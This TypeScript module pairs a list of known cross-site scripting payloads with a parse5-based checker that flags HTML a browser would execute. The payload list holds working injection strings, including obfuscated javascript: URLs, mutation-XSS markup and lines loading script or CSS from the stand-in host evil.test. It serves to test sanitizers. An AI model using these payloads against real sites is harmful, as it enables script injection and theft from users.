/**
 * Known cross-site scripting payloads, and a check of HTML for anything a browser would run.
 * The check parses with parse5, the HTML standard's parser that browsers follow, so markup that
 * only turns dangerous when a browser re-parses it (mutation XSS) is judged as a browser sees it.
 */
import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';

export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img src=x onerror=alert(1)//',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<a href="https://ok.test/" onclick="alert(1)">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.test/"></iframe>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width: expression(alert(1))">x</p>',
  "<style>@import 'https://evil.test/x.css';</style>",
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror="alert(1)"></video>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<template><img src=x onerror=alert(1)></template>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
];

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

/** Elements that run code, load code or change how the page's URLs and forms resolve. */
const FORBIDDEN_TAGS = new Set([
  'script',
  'style',
  'svg',
  'math',
  'object',
  'embed',
  'applet',
  'base',
  'meta',
  'link',
  'form',
  'frame',
  'frameset',
  'template',
  'noscript',
]);
const FORBIDDEN_ATTRIBUTES = new Set(['style', 'srcdoc', 'action', 'formaction']);
const URL_ATTRIBUTES = new Set(['href', 'src', 'xlink:href', 'data', 'poster', 'background']);
const EMBED_HOSTS = new Set(['www.youtube.com', 'www.youtube-nocookie.com', 'player.vimeo.com']);
const RASTER_DATA = /^data:image\/(png|jpeg|gif|webp)[;,]/;

function scheme(value: string): string {
  // Browsers drop whitespace and control characters inside a URL's scheme.
  return value.replace(/[\u0000-\u0020\u007f]/g, '').toLowerCase(); // eslint-disable-line no-control-regex
}

function elementProblems(element: Element): string[] {
  const problems: string[] = [];
  const tag = element.tagName.toLowerCase();
  if (FORBIDDEN_TAGS.has(tag)) problems.push(`<${tag}> element`);
  for (const { name, value } of element.attrs) {
    const attribute = name.toLowerCase();
    if (attribute.startsWith('on')) problems.push(`${attribute}= on <${tag}>`);
    if (FORBIDDEN_ATTRIBUTES.has(attribute)) problems.push(`${attribute}= on <${tag}>`);
    if (!URL_ATTRIBUTES.has(attribute)) continue;
    const url = scheme(value);
    if (/^(javascript|vbscript):/.test(url)) problems.push(`${url.slice(0, 11)} URL on <${tag}>`);
    if (url.startsWith('data:') && !(tag === 'img' && RASTER_DATA.test(url)))
      problems.push(`data: URL on <${tag}>`);
    if (tag === 'iframe' && attribute === 'src') {
      const host = URL.canParse(value) ? new URL(value).hostname : '';
      if (!EMBED_HOSTS.has(host)) problems.push(`iframe from "${host || value}"`);
    }
  }
  return problems;
}

function walk(node: Node, problems: string[]): void {
  if ('tagName' in node) {
    problems.push(...elementProblems(node));
    if (node.tagName === 'template')
      walk((node as DefaultTreeAdapterMap['template']).content, problems);
  }
  if ('childNodes' in node) for (const child of node.childNodes) walk(child, problems);
}

/** What in `html` a browser would execute; empty when it is inert. */
export function executableParts(html: string): string[] {
  const problems: string[] = [];
  if (/<script/i.test(html)) problems.push('"<script" in the text');
  if (/javascript:/i.test(html)) problems.push('"javascript:" in the text');
  walk(parseFragment(html), problems);
  return problems;
}
